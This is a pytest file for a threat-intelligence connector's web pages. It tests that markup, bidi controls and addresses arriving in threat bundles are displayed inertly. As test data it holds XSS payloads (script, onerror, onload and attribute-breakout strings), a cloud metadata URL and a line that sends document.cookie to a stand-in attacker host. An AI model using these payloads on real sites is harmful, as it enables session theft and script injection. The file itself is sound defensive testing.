"""What came in a message can neither act nor mislead, in any view."""

from __future__ import annotations

import html
import json
import re
from dataclasses import replace

from eme_connector.domain.rights import Right
from eme_connector.domain.threat import Asset, Decision, Status
from eme_connector.usecases.receive import Rules, receive_bundle
from tests.build import CERT, CI, detection, playbook, step, token
from tests.pages.conftest import waiting

MARKUP = [
    "<script>window.pwned = 1</script>",
    "<img src=x onerror='window.pwned = 1'>",
    "<svg onload='window.pwned = 1'>",
    "</title></textarea></select><script>window.pwned = 1</script>",
    "'\" onmouseover=window.pwned=1 autofocus onfocus=window.pwned=1 x='",
    "{{ 7 * 7 }}{% raw %}",
    "javascript:window.pwned=1",
    "<a data-hx-get='/stop' data-hx-trigger='load'>",
]
SPOKEN = """[...document.querySelectorAll("*")].map((one) =>
    [one.title, one.ariaLabel, one.placeholder, one.alt].join()).join()"""
BIDI = "Benign \u202egnissim\u202c update\u2066\u2069"


def hostile(text):
    acts = replace(step(1), id=text, action_text=text, action=None, actor=text,
                   description=text, execution_api=text)  # fmt: skip
    return detection(
        name=text, summary=text, source=text, actor=text, threat=text, flags=(text,),
        assets=(Asset(text, text, 4),), playbooks=(playbook(acts, name=text, created_by=text),),
    )  # fmt: skip


def test_markup_is_inert_in_every_view(site, look):
    text = "".join(MARKUP)
    threat = site.add(
        detection=hostile(text),
        decision=waiting((text, "unknown-action")),
        raw=text.encode(),
        viewers=(CI, CERT),
    )
    declined = Decision(Status.DECLINED, text, threat.received_at, text)
    other = site.add(detection=hostile(text), decision=declined, viewers=(CI, CERT))
    page = look("anna", "/threats")
    for path in ("", f"/{threat.id}", f"/{threat.id}/data", f"/{other.id}", "?keyword=" + text):
        page.goto(f"/threats{path}")
        assert page.evaluate("window.pwned === undefined")
        assert page.locator("a[href*=javascript], a[href*=evil]").count() == 0
        if not path.startswith("?"):
            assert text in page.locator("main").inner_text()
    cert = look("carl", "/threats")

    assert text in cert.locator("tbody").inner_text()
    assert cert.evaluate("window.pwned === undefined")


def test_markup_is_inert_on_the_pages_that_refuse(site, look):
    threat = site.add(detection=hostile(MARKUP[0]))
    page = look("anna", f"/threats/{threat.id}")
    site.change(threat, detection=hostile(MARKUP[1]))

    page.click("[data-approve]")

    assert "It changed since you read it" in page.inner_text("h1")
    assert MARKUP[0] in page.inner_text("table")
    assert page.evaluate("window.pwned === undefined")


def test_bidi_controls_are_spelled_out(site, look):
    threat = site.add(detection=hostile(BIDI), raw=BIDI.encode())
    page = look("anna", "/threats")

    for path in ("/threats", f"/threats/{threat.id}", f"/threats/{threat.id}/data"):
        page.goto(path)
        assert "\u202e" not in page.title() + page.inner_text("html") + page.evaluate(SPOKEN)
        assert "⟨U+202E⟩gnissim⟨U+202C⟩" in page.inner_text("main")


def test_addresses_from_messages_are_no_links(site, look):
    acts = replace(step(1), execution_api="http://169.254.169.254/latest/meta-data")
    threat = site.add(
        detection=detection(summary="see https://example.org", playbooks=(playbook(acts),))
    )
    page = look("anna", f"/threats/{threat.id}")

    assert "http://169.254.169.254/latest/meta-data" in page.inner_text("main")
    outside = "[...document.links].filter((one) => one.origin !== location.origin).length"
    assert page.evaluate(outside) == 0


def test_every_leaf_of_every_bundle_is_on_its_card_or_in_its_data(site, corpora):
    client = site.client("anna")
    bundles = sorted((corpora / "iris").glob("*.json"))
    assert bundles

    for path in bundles:
        raw = path.read_bytes()
        for received in receive(site, raw):
            card = shown(client.get(f"/threats/{received.threat.id}").text)
            missing = [one for one in leaves(json.loads(raw)) if one not in card]
            assert missing == [], path.name


def test_the_hostile_bundle_does_nothing(site, corpora, look):
    raw = (corpora / "iris-hostile/h08-markup-and-injection.json").read_bytes()
    (received,) = receive(site, raw)
    page = look("anna", "/threats")
    assert "<script>fetch('//evil.example/'+document.cookie)</script>" in page.inner_text("main")

    for path in ("", "/data"):
        page.goto(f"/threats/{received.threat.id}{path}")
        assert "<img src=x onerror=alert(1)>" in page.inner_text("main")
        assert page.locator("main img, main script").count() == 0


def receive(site, raw):
    document = json.loads(raw)
    sender = re.search(r'"organisation": *"([^"]+)"', raw.decode())[1]
    ours = replace(site.eme.organisation, aliases=frozenset({sender}))
    rules = Rules(ours, site.eme.orchestrator_lane)
    return receive_bundle(
        document,
        raw,
        caller=token(Right.INGEST, criticality_order="descending"),
        rules=rules,
        store=site.eme.store,
        now=site.eme.clock(),
    )


def shown(page):
    """Return what a page says, without its markup."""
    return html.unescape(re.sub(r"<[^>]+>", "", page))


def leaves(node):
    if isinstance(node, dict):
        for key, value in node.items():
            yield key
            yield from leaves(value)
    elif isinstance(node, list):
        for value in node:
            yield from leaves(value)
    else:
        yield json.dumps(node, ensure_ascii=False).strip('"')
